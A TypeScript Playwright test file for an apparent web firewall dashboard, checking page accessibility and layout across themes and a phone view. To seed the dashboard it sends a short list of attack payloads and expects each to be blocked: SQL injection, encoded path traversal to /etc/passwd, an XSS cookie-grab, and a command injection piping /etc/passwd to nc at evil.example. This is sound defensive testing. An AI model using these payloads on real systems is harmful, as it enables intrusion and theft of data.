import assert from 'node:assert/strict';
import { mkdirSync } from 'node:fs';
import { type TestContext, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import type { Page } from 'playwright-core';
import { graveViolations } from './axe.ts';
import { openPage } from './browser.ts';
import {
  control,
  createKey,
  type Dashboard,
  openEvent,
  setUp,
  startDashboard,
  untilStatus,
} from './dashboard.ts';

const screens = fileURLToPath(new URL('../out/dashboard/', import.meta.url));
const phone = { width: 375, height: 740 };

/** Every page, with the heading that says that it is there. */
const places = (eventId: string, keyId: string) =>
  [
    ['overview', '', 'Overview'],
    ['events', '/events', 'Events'],
    ['event', `/events/${eventId}`, 'Blocked: SQL injection'],
    ['keys', '/keys', 'Keys'],
    ['key', `/keys/${keyId}`, /^Key /],
    ['policies', '/policies', 'Policies'],
    ['policy', '/policies/default', /^Policy /],
    ['addresses', '/addresses', 'Addresses'],
    ['notifications', '/notifications', 'Notifications'],
    ['rules', '/rules', 'Rules'],
    ['playground', '/playground', 'Playground'],
    ['audit', '/audit', 'Audit'],
    ['administrators', '/administrators', 'Administrators'],
    ['sessions', '/sessions', 'Your sessions'],
    ['not-found', '/nothing/here', 'No such page'],
  ] as const;

async function checkPage(page: Page, name: string): Promise<void> {
  await page.locator('.skeleton').first().waitFor({ state: 'detached' });
  assert.deepEqual(await graveViolations(page), [], name);
  const overflow = 'document.documentElement.scrollWidth - document.documentElement.clientWidth';
  assert.equal(await page.evaluate(overflow), 0, `${name} scrolls sideways`);
  await page.screenshot({ path: `${screens}${name}.png` });
}

const attacks = [
  { comment: "1' UNION SELECT name, password FROM users --" },
  { next: 'L2V0Yy9wYXNzd2Q=', file: '..%252f..%252f..%252fetc%252fpasswd' },
  { bio: '<img src=x onerror=alert(document.cookie)>' },
  { host: '127.0.0.1; cat /etc/passwd | nc evil.example 99' },
  { password: "' OR 1=1 --" },
  { q: '%2527%2520OR%25201%253D1%2520--' },
];

/** Enough traffic for the pages to have something to show; gives the id of an SQL injection. */
async function makeTraffic({ served }: Dashboard, key: string): Promise<string> {
  await untilStatus(served, key, { username: 'alice' }, 200);
  for (let request = 0; request < 40; request += 1) {
    await control(served, key, { username: 'alice', note: 'The union will select a leader.' });
  }
  const ids: string[] = [];
  for (const attack of attacks) {
    const context = {
      'x-forwarded-method': 'POST',
      'x-forwarded-host': 'shop.example',
      'x-forwarded-uri': '/account?tab=2',
      'x-forwarded-for': '203.0.113.9',
    };
    const { status, id } = await control(served, key, attack, context);
    assert.equal(status, 403, JSON.stringify(attack));
    ids.push(id);
  }
  return ids.at(-1) ?? '';
}

async function prepare(
  t: TestContext,
): Promise<(Dashboard & { eventId: string; keyId: string }) | undefined> {
  mkdirSync(screens, { recursive: true });
  const dashboard = await startDashboard(t);
  if (dashboard === undefined) return undefined;
  await dashboard.page.goto(dashboard.link);
  await checkPage(dashboard.page, 'setup');
  await setUp(dashboard);
  const key = await createKey(dashboard.page, 'web shop');
  const eventId = await makeTraffic(dashboard, key);
  await openEvent(dashboard, eventId);
  return { ...dashboard, eventId, keyId: key.slice(8, 16) };
}

test('every page is for everyone: axe, both themes, a phone', async (t) => {
  const dashboard = await prepare(t);
  if (dashboard === undefined) return;
  const { browser, context, served, eventId, keyId } = dashboard;
  const storageState = await context.storageState();
  for (const [look, options] of [
    ['light', { colorScheme: 'light' }],
    ['dark', { colorScheme: 'dark' }],
    ['phone', { colorScheme: 'light', viewport: phone }],
  ] as const) {
    const { page, faults } = await openPage(browser, { storageState, ...options });
    for (const [name, path, heading] of places(eventId, keyId)) {
      await page.goto(`${served.address}/dashboard${path}`);
      await page.getByRole('heading', { name: heading, level: 1 }).waitFor();
      await checkPage(page, `${name}-${look}`);
    }
    await page.goto(`${served.address}/dashboard/events/${eventId}`);
    await page.getByRole('button', { name: 'False positive: add an exclusion' }).click();
    await page
      .getByRole('dialog')
      .getByText(/example attacks would/)
      .waitFor();
    await checkPage(page, `exclusion-${look}`);
    assert.deepEqual(faults, [], look);
  }
  const { page } = await openPage(browser);
  await page.goto(`${served.address}/dashboard`);
  await page.getByRole('heading', { name: 'Sign in' }).waitFor();
  await checkPage(page, 'sign-in');
});
